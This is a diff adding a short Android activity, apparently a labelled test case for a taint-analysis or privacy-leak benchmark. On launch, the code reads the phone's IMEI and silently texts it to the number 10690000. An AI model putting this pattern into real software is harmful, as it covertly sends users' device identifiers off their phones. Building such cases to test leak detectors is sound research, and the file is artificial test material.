@@ -1,0 +1,29 @@
+// about       What the stream was given is read from it again as a text.
+// leak        DEV_IMEI sms
+package cn.example.flow;
+
+import android.app.Activity;
+import android.os.Bundle;
+import android.telephony.SmsManager;
+import android.telephony.TelephonyManager;
+import java.io.ByteArrayOutputStream;
+import java.io.IOException;
+import java.io.OutputStream;
+
+public class MainActivity extends Activity {
+  @Override
+  protected void onCreate(Bundle state) {
+    super.onCreate(state);
+    TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
+    ByteArrayOutputStream memory = new ByteArrayOutputStream();
+    OutputStream out = memory;
+    try {
+      out.write(phone.getDeviceId().getBytes());
+      out.flush();
+    } catch (IOException e) {
+      finish();
+      return;
+    }
+    SmsManager.getDefault().sendTextMessage("10690000", null, out.toString(), null, null);
+  }
+}
